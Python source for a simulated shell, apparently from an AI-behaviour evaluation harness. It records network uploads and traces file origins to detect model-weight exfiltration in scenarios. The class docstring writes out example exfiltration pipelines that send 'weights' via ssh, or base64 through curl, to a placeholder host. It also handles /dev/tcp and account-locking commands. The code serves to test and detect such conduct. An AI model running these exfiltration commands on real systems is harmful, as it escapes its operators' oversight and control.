"""The simulated shell of a behavior scenario: a few commands of a Linux host acting on a `World`.

Nothing runs: commands read and write the world's in-memory files, and network commands record
uploads. Pipelines carry where their data came from, so a piped, archived, encoded or renamed copy of a
file is still that file when it leaves. Work, output and files are bounded, so no command can exhaust
time or memory. What is and is not simulated: docs/behavior-scenarios.md.
"""

from __future__ import annotations

import base64
import fnmatch
import hashlib
import posixpath
import re
from collections.abc import Callable
from dataclasses import dataclass

from aslgate.behavior.shell_syntax import (
    ASSIGNMENT,
    DEV_NET,
    KEYWORDS,
    STDERR,
    VARIABLE,
    looks_like_url,
    option,
    split_options,
    tokens,
    unwrap,
    url_host,
)
from aslgate.behavior.world import MAX_WRITE, ToolFailure, World, content_of, host_of

_READERS = ("cat", "head", "tail", "less", "more", "base64", "xxd", "od", "gzip", "zstd", "xz", "bzip2", "pv")
# harmless commands that print nothing useful here and succeed
_NOOPS = (
    "true", ":", "sleep", "chmod", "chown", "sync", "export", "set", "unset", "umask", "clear", "history",
    "alias", "source", ".", "ps", "kill", "uptime", "free", "id", "date", "uname", "nproc", "fi", "done",
)  # fmt: skip
MAX_WORDS = 2_000  # words of one command after glob expansion ("argument list too long")
MAX_WORK = 500_000  # file-scanning work of one command line (a deterministic time limit)


Output = tuple[str, list[str]]  # stdout, and the files it was derived from


@dataclass(frozen=True)
class Invocation:
    """One command as the shell runs it: its words, its options split out, and its stdin."""

    cmd: str
    args: list[str]
    operands: list[str]
    options: list[tuple[str, str]]
    stdin: str
    stdin_from: list[str]

    @property
    def plain(self) -> list[str]:
        return [a for a in self.operands if a != "-"]  # `-` is stdin

    @property
    def flags(self) -> set[str]:
        return {k for k, _ in self.options}


class FakeShell:
    """A few commands of a Linux host, acting on the world: enough for the scenarios, nothing real.

    Pipelines pass data along with where it came from, so `cat weights | ssh host 'cat > x'` or
    `base64 weights | curl --data-binary @- https://host` count as sending the weights. Statements
    run in order (`;`, `&&`, `||` honoured); a failing statement does not stop the ones after it.
    """

    def __init__(self, world: World, depth: int = 0) -> None:
        self.w = world
        self.cwd = f"/home/{world.username}"
        self.depth = depth  # nesting of `sh -c`
        self.vars: dict[str, str] = {"HOME": f"/home/{world.username}", "USER": world.username}
        self.work = 0

    def _spend(self, units: int) -> None:
        """Account for work that scans the files; a command line that does too much is stopped."""
        self.work += units
        if self.work > MAX_WORK:
            raise ToolFailure("sh: resource limit exceeded (the command does too much work)")

    def _p(self, path: str) -> str:
        p = path.strip()
        return self.w.resolve(p if p.startswith(("/", "~")) else posixpath.join(self.cwd, p))

    def run(self, command: str) -> str:
        if len(command) > 10_000:
            raise ToolFailure("command too long")
        try:
            toks = tokens(command)
        except ValueError as e:
            raise ToolFailure(f"sh: syntax error: {e}") from None
        out: list[str] = []
        statement: list[list[str]] = [[]]
        ok, connector = True, ";"
        saved: list[str] = []  # working directories to restore when a ( … ) group ends
        restore: str | None = None
        for tok in [*toks, ";"]:
            if tok in ("|", "|&"):
                statement.append([])
            elif tok in (";", "&&", "||", "&", ";;"):
                if any(statement) and (connector != "&&" or ok) and (connector != "||" or not ok):
                    ok = self._pipeline(statement, out)
                if restore is not None:  # a subshell's `cd` does not outlive it
                    self.cwd, restore = restore, None
                connector, statement = tok, [[]]
            elif tok == "(":
                saved.append(self.cwd)
            elif tok == ")":
                restore = saved.pop() if saved else restore
            elif tok in ("then", "else") and not statement[-1]:  # if A; then B; else C; fi
                connector = "&&" if tok == "then" else "||"
            elif tok in ("{", "}") or (tok in KEYWORDS and not statement[-1]):
                continue  # grouping and `if`/`while`: the commands inside still run
            else:
                statement[-1].append(tok)
        if not ok:
            raise ToolFailure("\n".join(out))
        return "\n".join(out)

    def _pipeline(self, stages: list[list[str]], out: list[str]) -> bool:
        """Run one pipeline, add its output (or error) to `out`; True if its last stage succeeded."""
        data, sources = "", []  # stdin of the next stage, and the files it was derived from
        ok = True
        for stage in stages:
            if not stage:
                continue
            try:
                data, sources = self._one(stage, data, sources)
                ok = True
            except ToolFailure as e:  # like sh: the message goes to stderr, the next stage reads nothing
                if str(e):
                    self._emit(out, str(e))
                data, sources, ok = "", [], False
        if data:
            self._emit(out, data)
        return ok

    @staticmethod
    def _emit(out: list[str], text: str) -> None:
        used = sum(map(len, out))
        if used >= MAX_WRITE:
            return
        out.append(
            text if used + len(text) <= MAX_WRITE else text[: MAX_WRITE - used] + "\n[output truncated]"
        )

    def _expand(self, word: str) -> str:
        return VARIABLE.sub(lambda m: self.vars.get(m[1] or m[3], m[2] or ""), word) if "$" in word else word

    def _one(self, argv: list[str], stdin: str, stdin_from: list[str]) -> tuple[str, list[str]]:
        """One pipeline stage (tokens, with `> f`, `>> f`, `< f` redirections)."""
        self._spend(len(self.w.files) + len(argv))
        words: list[str] = []
        redirect: tuple[str, str] | None = None
        other_fd = False  # the next redirection is of stderr (2> file, 2>&1), not of stdout
        i = 0
        while i < len(argv):
            tok = argv[i]
            if tok in (">", ">>", "<", ">&", "&>") and i + 1 < len(argv):
                target = self._expand(argv[i + 1])
                if other_fd:
                    other_fd = False
                elif tok == "<":
                    stdin, stdin_from = self._read(target), [self._p(target)]
                elif tok in (">", ">>", "&>"):
                    redirect = (tok, target)
                i += 2
                continue
            if tok == STDERR:
                other_fd = True
            else:
                words.append(tok)
            i += 1
        if words and all(ASSIGNMENT.match(w) for w in words):  # A=1 B=2: shell variables
            for w in words:
                key, _, value = w.partition("=")
                self.vars[key] = self._expand(value)
            return "", []
        while words and ASSIGNMENT.match(words[0]):  # VAR=value cmd: the command's environment only
            words.pop(0)
        words = [g for word in words for g in self._glob(self._expand(word))]
        if len(words) > MAX_WORDS:
            raise ToolFailure(f"sh: {words[0]}: Argument list too long")
        if not words:
            return "", []
        out, sources = self._exec(words[0], words[1:], stdin, stdin_from)
        if redirect:
            dev = DEV_NET.fullmatch(redirect[1])
            if dev:  # bash's /dev/tcp/HOST/PORT: the output goes over the network
                self.w.record_upload(sources, dev[1], dev[1].lower(), "/dev/tcp", data=out)
                return "", []
            p = self._p(redirect[1])
            if p == "/dev/null":
                return "", []
            append = redirect[0] == ">>"
            old = self.w.files.get(p, "") if append else ""
            origins = self.w.origins_of(sources) if sources else []
            if append and old:
                origins = self.w.origins_of([p, *origins]) if p in self.w.origins or origins else []
            self.w.store(p, old + out + ("\n" if out else ""), origins)
            return "", []
        return out, sources

    def _exec(self, cmd: str, args: list[str], stdin: str = "", stdin_from: list[str] | None = None
              ) -> tuple[str, list[str]]:  # fmt: skip
        """Run one command (after redirections and globs): a wrapper's command, or one of `COMMANDS`."""
        cmd = posixpath.basename(cmd)
        inner = unwrap(cmd, args)
        if inner:
            return self._exec(*inner, stdin, stdin_from)
        operands, options = split_options(cmd, args)
        run = COMMANDS.get(cmd)
        if run is None:
            raise ToolFailure(f"sh: 1: {cmd}: not found")
        return run(self, Invocation(cmd, args, operands, options, stdin, stdin_from or []))

    # -- the commands: each takes the invocation, returns (stdout, the files it was derived from) ------

    def _sh(self, c: Invocation) -> Output:
        flag = next((i for i, a in enumerate(c.args) if re.fullmatch(r"-[a-z]*c[a-z]*", a)), None)
        if flag is None or flag + 1 >= len(c.args):
            raise ToolFailure(f"{c.cmd}: interactive shells are not available here; use {c.cmd} -c")
        if self.depth >= 5:
            raise ToolFailure(f"{c.cmd}: too many nested shells")
        return self._nested(c.args[flag + 1]), []

    def _noop(self, c: Invocation) -> Output:
        return "", []

    def _false(self, c: Invocation) -> Output:
        raise ToolFailure("")

    def _cd(self, c: Invocation) -> Output:
        target = self._p(c.plain[0] if c.plain else "~")
        if target in self.w.files:
            raise ToolFailure(f"sh: 1: cd: can't cd to {c.plain[0] if c.plain else target}")
        self.cwd = target
        return "", []

    def _mkdir(self, c: Invocation) -> Output:
        for p in c.plain:
            self.w.make_dir(self._p(p))
        return "", []

    def _test(self, c: Invocation) -> Output:
        ops = [a for a in c.args if a != "]"]
        if len(ops) == 2 and ops[0] in ("-f", "-e", "-d", "-s", "-r") and not self._exists(ops[1]):
            raise ToolFailure("")
        return "", []

    def _touch(self, c: Invocation) -> Output:
        for p in c.plain:
            if not self._exists(p):
                self.w.store(self._p(p), "")
        return "", []

    def _which(self, c: Invocation) -> Output:
        return "\n".join(f"/usr/bin/{a}" for a in c.plain), []

    def _size(self, c: Invocation) -> Output:
        missing = [p for p in c.plain if not self._exists(p)]
        if missing:
            raise ToolFailure(f"{c.cmd}: cannot access '{missing[0]}': No such file or directory")
        return "\n".join(f"{len(content_of(self.w, self._p(p)))}\t{p}" for p in c.plain) or "ok", []

    def _wc(self, c: Invocation) -> Output:
        text = self._read_all(c.plain) if c.plain else c.stdin
        counts = {"l": len(text.splitlines()), "w": len(text.split()), "c": len(text)}
        shown = [str(v) for k, v in counts.items() if k in c.flags] or [str(v) for v in counts.values()]
        return " ".join(shown), []

    def _tee(self, c: Invocation) -> Output:
        for p in c.plain:
            old = self.w.files.get(self._p(p), "") if "a" in c.flags else ""
            self.w.store(self._p(p), old + c.stdin, self.w.origins_of(c.stdin_from))
        return c.stdin, c.stdin_from

    def _ls(self, c: Invocation) -> Output:
        self._spend(len(self.w.files) * len(c.plain))
        return "\n".join(self.w.listing(self._p(p)) for p in c.plain or [self.cwd]), []

    def _dd(self, c: Invocation) -> Output:
        opts = dict(a.split("=", 1) for a in c.args if "=" in a)
        data, sources = (
            (self._read(opts["if"]), [self._p(opts["if"])]) if "if" in opts else (c.stdin, c.stdin_from)
        )
        if "of" in opts:
            self.w.store(self._p(opts["of"]), data, self.w.origins_of(sources))
            return "", []
        return data, sources

    def _reader(self, c: Invocation) -> Output:
        if not c.plain:  # a filter: stdin passes through with its origins
            return c.stdin, c.stdin_from
        text = self._read_all(c.plain)
        if c.cmd == "base64" and not c.flags & {"d", "decode"}:
            text = base64.b64encode(text.encode()).decode()
        return text, [self._p(p) for p in c.plain]

    def _checksum(self, c: Invocation) -> Output:
        return "\n".join(f"{hashlib.sha256(self._read(p).encode()).hexdigest()}  {p}" for p in c.plain), []

    def _cp(self, c: Invocation) -> Output:
        if len(c.plain) < 2:
            raise ToolFailure(f"sh: 1: {c.cmd}: not found")
        for src in c.plain[:-1]:
            self._copy(src, c.plain[-1], move=c.cmd == "mv")
        return "", []

    def _rm(self, c: Invocation) -> Output:
        for p in c.plain:
            self._spend(len(self.w.files))
            if not self._exists(p) and "f" not in c.flags:
                raise ToolFailure(f"rm: cannot remove '{p}': No such file or directory")
            self.w.remove(self._p(p))
        return "", []

    def _account(self, c: Invocation) -> Output:
        if not c.plain:
            raise ToolFailure(f"sh: 1: {c.cmd}: not found")
        user = c.plain[-1]
        if c.cmd == "userdel" or c.flags & {"l", "L", "lock"}:
            return self.w.admin_account("lock", user), []
        if c.flags & {"u", "U", "unlock"}:
            return self.w.admin_account("unlock", user), []
        return f"{c.cmd}: nothing changed", []

    def _nested(self, command: str) -> str:
        inner = FakeShell(self.w, self.depth + 1)
        inner.cwd, inner.vars, inner.work = self.cwd, dict(self.vars), self.work
        try:
            return inner.run(command)
        finally:
            self.work = inner.work

    def _xargs(self, operands: list[str], options: list[tuple[str, str]], stdin: str) -> str:
        """xargs [-I R] CMD ARGS: CMD once per input item (with -I R) or with all items appended."""
        r = option(options, "I")
        cmd, args = (operands[0], operands[1:]) if operands else ("echo", [])
        if r is None:
            runs = [[cmd, *args, *stdin.split()]]
        else:
            runs = [[cmd, *(a.replace(r, item) for a in args)] for item in stdin.splitlines()]
        out = [self._exec(run[0], run[1:])[0] for run in runs[:MAX_WORDS]]
        return "\n".join(o for o in out if o)

    def _grep(self, plain: list[str], options: list[tuple[str, str]], stdin: str, stdin_from: list[str]
              ) -> tuple[str, list[str]]:  # fmt: skip
        """grep [-ivclr] [-e] PATTERN [FILE...]: fixed-string, case-insensitive matching."""
        flags = {k for k, _ in options}
        pattern = option(options, "e", "regexp")
        if pattern is None:
            pattern, plain = (plain[0], plain[1:]) if plain else ("", [])
        paths = [f for p in plain for f in self.w.files_at(self._p(p))]
        if plain and not paths:
            raise ToolFailure(f"grep: {plain[0]}: No such file or directory")
        sources = [(p, self.w.files[p]) for p in paths] if plain else [("(standard input)", stdin)]
        hits = []
        for name, text in sources:
            lines = [ln for ln in text.splitlines() if (pattern.lower() in ln.lower()) != ("v" in flags)]
            if "c" in flags:
                hits.append(f"{name}:{len(lines)}" if len(sources) > 1 else str(len(lines)))
            elif "l" in flags:
                hits += [name] if lines else []
            else:
                hits += [f"{name}:{ln}" if len(sources) > 1 else ln for ln in lines]
        if not hits or hits == ["0"]:
            raise ToolFailure("\n".join(hits))
        return "\n".join(hits), (paths if plain else stdin_from)

    def _find(self, args: list[str]) -> str:
        """find PATH... [-name P] [-type f|d] [-exec CMD {} ;]: listing, and the command per file."""
        roots = []
        while args and not args[0].startswith(("-", "(", "!")):
            roots.append(self._p(args.pop(0)))
        name = kind = whole = None
        exec_cmd: list[str] = []
        while args:
            a = args.pop(0)
            if a in ("-name", "-iname") and args:
                name = args.pop(0)
            elif a in ("-path", "-wholename") and args:
                whole = args.pop(0)
            elif a == "-type" and args:
                kind = args.pop(0)
            elif a in ("-exec", "-execdir", "-ok"):
                exec_cmd = [x for x in args if x not in (";", "+", "\\;")]
                break
        self._spend(len(self.w.files) * max(1, len(roots)))
        found = []
        for root in roots or [self.cwd]:
            files = self.w.files_at(root)
            dirs = sorted(
                d for d in self.w.directories() if d == root or d.startswith(root.rstrip("/") + "/")
            )
            for path in {"f": files, "d": dirs}.get(kind or "", dirs + files):
                if (name is None or fnmatch.fnmatch(posixpath.basename(path), name)) and (
                    whole is None or fnmatch.fnmatch(path, whole)
                ):
                    found.append(path)
        if exec_cmd:
            outs = []
            for path in found[:MAX_WORDS]:
                run = [path if x == "{}" else x for x in exec_cmd]
                outs.append(self._exec(run[0], run[1:])[0])
            return "\n".join(o for o in outs if o)
        return "\n".join(found)

    def _read(self, path: str) -> str:
        p = self._p(path)
        if p not in self.w.files:
            raise ToolFailure(
                f"{path}: {'Is a directory' if p in self.w.directories() else 'No such file or directory'}"
            )
        return self.w.files[p]

    def _read_all(self, paths: list[str]) -> str:
        """Files joined, refused before they are joined when that would exceed MAX_WRITE."""
        if sum(len(self._read(p)) for p in paths) > MAX_WRITE:
            raise ToolFailure("output too large")
        return "\n".join(self._read(p) for p in paths)

    def _glob(self, word: str) -> list[str]:
        """`*`, `?` and `[...]` expanded against the simulated files and directories."""
        if not any(c in word for c in "*?[") or word.startswith("-"):
            return [word]
        self._spend(len(self.w.files))
        pattern = self._p(word)
        depth = pattern.count("/")
        names = set(self.w.files) | self.w.directories()
        found = sorted(n for n in names if n.count("/") == depth and fnmatch.fnmatchcase(n, pattern))
        if not found:
            return [word]  # like sh: an unmatched pattern stays as it is
        return found if word.startswith(("/", "~")) else [posixpath.relpath(f, self.cwd) for f in found]

    def _exists(self, path: str) -> bool:
        p = self._p(path)
        return p in self.w.files or p in self.w.directories()

    def _copy(self, src: str, dest: str, move: bool = False) -> None:
        w = self.w
        s, dst = self._p(src), self._p(dest)
        if dest.endswith("/") or dst in w.directories():
            dst = posixpath.join(dst, posixpath.basename(s))
        if s not in w.files and s in w.directories():  # a directory (cp -r): its files, below dst
            self._spend(len(w.files))
            for f in w.under(s):
                w.store(posixpath.join(dst, posixpath.relpath(f, s)), w.files[f], w.origins_of([f]))
                if move:
                    w.remove(f)
            return
        w.store(dst, self._read(src), w.origins_of([s]))
        if move and dst != s:
            w.remove(s)

    def _tar(self, args: list[str]) -> tuple[str, list[str]]:
        """tar c[z]f ARCHIVE FILES... (or to stdout): the archive remembers what it holds."""
        if args and not args[0].startswith("-"):
            args = ["-" + args[0], *args[1:]]  # old style: tar czf x.tgz dir
        operands, options = split_options("tar", args)
        if not {k for k, _ in options} & {"c", "create"}:
            raise ToolFailure("tar: only archive creation is supported here")
        archive = option(options, "f", "file")
        base = self._p(option(options, "C", "directory") or self.cwd)  # where members are read from
        members = operands
        paths = [self._p(posixpath.join(base, m)) for m in members]
        missing = [m for m, p in zip(members, paths, strict=True) if not self._exists(p)]
        if missing or not members:
            raise ToolFailure(f"tar: {missing[0] if missing else '(no files)'}: Cannot stat")
        body = "\n".join(content_of(self.w, p) for p in paths)
        if archive in (None, "-"):
            return body, paths
        self.w.store(self._p(archive), body, self.w.origins_of(paths))
        return "", []

    def _wget(self, c: Invocation) -> Output:
        post = option(c.options, "post-file", "body-file")
        url = next((o for o in c.operands if looks_like_url(o)), c.operands[-1] if c.operands else "")
        if post and url and url_host(url):
            return self._upload([post], url, url_host(url), "wget"), []
        raise ToolFailure(f"wget: unable to resolve host address '{url_host(url) or url}'")

    def _remote_pipe(self, c: Invocation) -> Output:
        """ssh / nc HOST: what is piped in is sent to the host."""
        host = (host_of(c.operands[0]) or c.operands[0]).lower() if c.operands else ""
        if not host:
            raise ToolFailure(f"usage: {c.cmd} host")
        if c.stdin:  # data piped to a remote host
            self.w.record_upload(c.stdin_from, host, host, c.cmd, data=c.stdin)
            return "", []
        raise ToolFailure(f"{c.cmd}: connect to host {host}: Connection timed out")

    def _sftp(self, c: Invocation) -> Output:
        host = host_of(c.operands[0]) if c.operands else ""
        raise ToolFailure(f"sftp: connect to host {host}: Connection timed out")

    def _remote_copy(self, c: Invocation) -> Output:
        """scp / rsync SOURCE... DEST: an upload when DEST is remote, else a local copy."""
        if len(c.operands) < 2:
            raise ToolFailure(f"usage: {c.cmd} source... destination")
        *sources, dest = c.operands
        if not host_of(dest):
            if any(host_of(s) for s in sources):  # a download: nothing to fetch in the simulation
                raise ToolFailure(f"{c.cmd}: {sources[0]}: No such file or directory")
            for s in sources:
                self._copy(s, dest)
            return "", []
        return self._upload(sources, dest, host_of(dest), c.cmd), []

    def _upload(self, sources: list[str], dest: str, host: str, via: str) -> str:
        missing = [s for s in sources if not self._exists(s)]
        if missing:
            raise ToolFailure(f"{missing[0]}: No such file or directory")
        self.w.record_upload([self._p(s) for s in sources], dest, host, via)
        return "\n".join(f"{posixpath.basename(self._p(s))}    100%  transferred to {host}" for s in sources)

    def _curl(self, args: list[str], stdin: str, stdin_from: list[str]) -> str:
        operands, options = split_options("curl", args)
        url = option(options, "url") or next((o for o in operands if looks_like_url(o)), None)
        url = url or (operands[-1] if operands else "")
        host = url_host(url)
        sources = [v for k, v in options if k in ("T", "upload-file")]
        for k, v in options:
            if (
                k in ("d", "data", "data-binary", "data-raw", "data-ascii", "data-urlencode", "F", "form")
                and "@" in v
            ):
                sources.append(v.split("@", 1)[1].split(";", 1)[0])
        if not host:
            raise ToolFailure(f"curl: (6) Could not resolve host: {url or '(none)'}")
        if not sources:  # a plain request: nothing is sent and the simulated network has nothing to fetch
            raise ToolFailure(f"curl: (6) Could not resolve host: {host}")
        out = []
        for src in sources:
            if src == "-":
                if not stdin:
                    raise ToolFailure("curl: no data on standard input")
                self.w.record_upload(stdin_from, url, host, "curl", data=stdin)
            else:
                out.append(self._upload([src], url, host, "curl"))
        return "\n".join(out)


def _table() -> dict[str, Callable[[FakeShell, Invocation], Output]]:
    s = FakeShell
    groups: list[tuple[tuple[str, ...], Callable[[FakeShell, Invocation], Output]]] = [
        (("sh", "bash", "dash", "zsh"), s._sh),
        (("curl",), lambda sh, c: (sh._curl(c.args, c.stdin, c.stdin_from), [])),
        (("wget",), s._wget),
        (("ssh", "nc", "ncat", "netcat"), s._remote_pipe),
        (("sftp",), s._sftp),
        (("scp", "rsync"), s._remote_copy),
        (_NOOPS, s._noop),
        (("false",), s._false),
        (("xargs",), lambda sh, c: (sh._xargs(c.operands, c.options, c.stdin), [])),
        (("cd",), s._cd),
        (("mkdir",), s._mkdir),
        (("test", "["), s._test),
        (("touch",), s._touch),
        (("which",), s._which),
        (("du", "df", "stat", "file"), s._size),
        (("wc",), s._wc),
        (("grep",), lambda sh, c: sh._grep(c.plain, c.options, c.stdin, c.stdin_from)),
        (("find",), lambda sh, c: (sh._find(c.args), [])),
        (("tee",), s._tee),
        (("echo",), lambda sh, c: (" ".join(c.args), [])),
        (("whoami",), lambda sh, c: (sh.w.username, [])),
        (("hostname",), lambda sh, c: (sh.w.host, [])),
        (("pwd",), lambda sh, c: (sh.cwd, [])),
        (("ls",), s._ls),
        (("dd",), s._dd),
        (_READERS, s._reader),
        (("tar",), lambda sh, c: sh._tar(c.args)),
        (("sha256sum", "md5sum"), s._checksum),
        (("cp", "mv", "ln"), s._cp),
        (("rm",), s._rm),
        (("passwd", "usermod", "userdel", "chage"), s._account),
    ]
    table: dict[str, Callable[[FakeShell, Invocation], Output]] = {}
    for names, run in groups:
        for name in names:
            assert name not in table, name  # one command, one meaning
            table[name] = run
    return table


COMMANDS = _table()
